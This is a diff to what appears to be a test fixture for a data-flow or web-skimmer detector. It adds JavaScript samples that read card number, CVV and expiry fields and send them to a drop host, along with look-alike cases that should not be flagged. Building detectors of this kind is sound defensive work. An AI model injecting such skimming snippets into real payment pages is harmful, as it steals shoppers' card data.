@@ -25,6 +25,9 @@ FLOWS = {
     "function parameter": f"function send(d) {{ var x = new XMLHttpRequest(); "
                           f"x.open('POST', '{DROP}'); x.send(d); }}\n"
                           f"send(encodeURIComponent(document.querySelector('#cvv').value));",
+    "object member joined into a URL": "var o = {n: ''}; "
+                                       "o.n = document.querySelector('#cc_number').value;\n"
+                                       f"var a = []; a.push(o.n); fetch('{DROP}?d=' + a.join('_'));",
     "storage": f"localStorage.setItem('k', document.querySelector('#cc-exp').value);\n"
                f"fetch('{DROP}', {{method: 'POST', body: localStorage.getItem('k')}});",
     "class field": f"class C {{ constructor(u) {{ this.u = u; }}\n"
@@ -97,6 +100,8 @@ NO_FLOWS = {
     "count of fields": "var f = document.forms[0];\n"
                        f"navigator.sendBeacon('{DROP}', "
                        f"JSON.stringify({{fields: f.elements.length}}));",
+    "constant list joined into a URL": "var n = document.querySelector('#cc_number').value;\n"
+                                       f"fetch('{DROP}?v=' + ['a', 'b'].join('_'));",
     "processor": "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', "
                  "body: 'card[number]=' + document.querySelector('#cc_number').value});",
 }
